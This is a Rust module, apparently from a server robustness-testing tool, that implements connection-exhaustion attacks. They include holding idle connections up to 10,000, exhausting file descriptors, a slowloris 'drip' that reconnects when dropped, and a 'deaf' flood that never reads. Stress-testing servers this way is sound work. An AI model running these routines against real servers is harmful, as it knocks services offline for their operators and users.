//! Peers that take a place and keep it.

use std::io;
use std::time::Duration;

use socket2::Socket;

use crate::attack::Attack;

/// How long a deaf peer's write may wait: then the server has stopped to read, too.
const FULL: Duration = Duration::from_millis(100);

/// Connections of a peer that asks and does not read, drips, or is silent: enough to stop a pool of four
/// threads.
pub const FEW: usize = 4;

/// Connections, and no octet.
pub fn silent(attack: &Attack<'_>) -> io::Result<()> {
    hold(attack, FEW)
}

/// 1,000 connections.
pub fn crowd(attack: &Attack<'_>) -> io::Result<()> {
    hold(attack, 1_000)
}

/// 10,000 connections.
pub fn great_crowd(attack: &Attack<'_>) -> io::Result<()> {
    hold(attack, 10_000)
}

/// More connections than a server with 64 descriptors can take.
pub fn descriptors(attack: &Attack<'_>) -> io::Result<()> {
    hold(attack, 90)
}

fn hold(attack: &Attack<'_>, usual: usize) -> io::Result<()> {
    let held = open(attack, usual)?;
    if held.is_empty() {
        return Ok(());
    }
    attack.gate.hold();
    attack.collect(&held);
    Ok(())
}

fn open(attack: &Attack<'_>, usual: usize) -> io::Result<Vec<Socket>> {
    let mut held = Vec::new();
    for _ in 0..attack.settings.connections.unwrap_or(usual) {
        if !attack.gate.is_open() {
            break;
        }
        match attack.connect()? {
            Some(socket) => held.push(socket),
            // The queue is full and stays full: those behind would only wait as long.
            None => break,
        }
    }
    Ok(held)
}

/// One octet, a pause, one octet (slowloris). A connection that the server ends is opened anew.
pub fn drip(attack: &Attack<'_>) -> io::Result<()> {
    let (beginning, octet) = attack.settings.speech.endless();
    let connections = attack.settings.connections.unwrap_or(FEW);
    let mut held: Vec<Option<Socket>> = (0..connections).map(|_| None).collect();
    loop {
        for place in &mut held {
            let going_on = match place {
                Some(socket) => {
                    attack.send(socket, &[octet])
                        && attack.still_stands(socket, Duration::from_millis(1))
                }
                None => false,
            };
            // A chat server takes one caller: with `only`, one connection is all there is.
            if !going_on && (place.is_none() || attack.settings.only.is_none()) {
                *place = attack.connect()?;
                if let Some(socket) = place {
                    attack.send(socket, beginning);
                }
            }
        }
        attack.gate.in_place();
        if !attack.gate.pause(attack.settings.pace) {
            return Ok(());
        }
    }
}

/// Asks for much, and reads nothing, until no more octets go into the connection; then stays.
pub fn deaf(attack: &Attack<'_>) -> io::Result<()> {
    let request = attack.settings.speech.large_request();
    let mut held = Vec::new();
    for _ in 0..attack.settings.connections.unwrap_or(FEW) {
        if let Some(socket) = attack.connect()? {
            socket.set_write_timeout(Some(FULL))?;
            // 1,000 requests are more than all buffers between the two hold.
            for _ in 0..1_000 {
                if !attack.gate.is_open() || !attack.send(&socket, &request) {
                    break;
                }
            }
            held.push(socket);
        }
    }
    attack.gate.hold();
    Ok(())
}
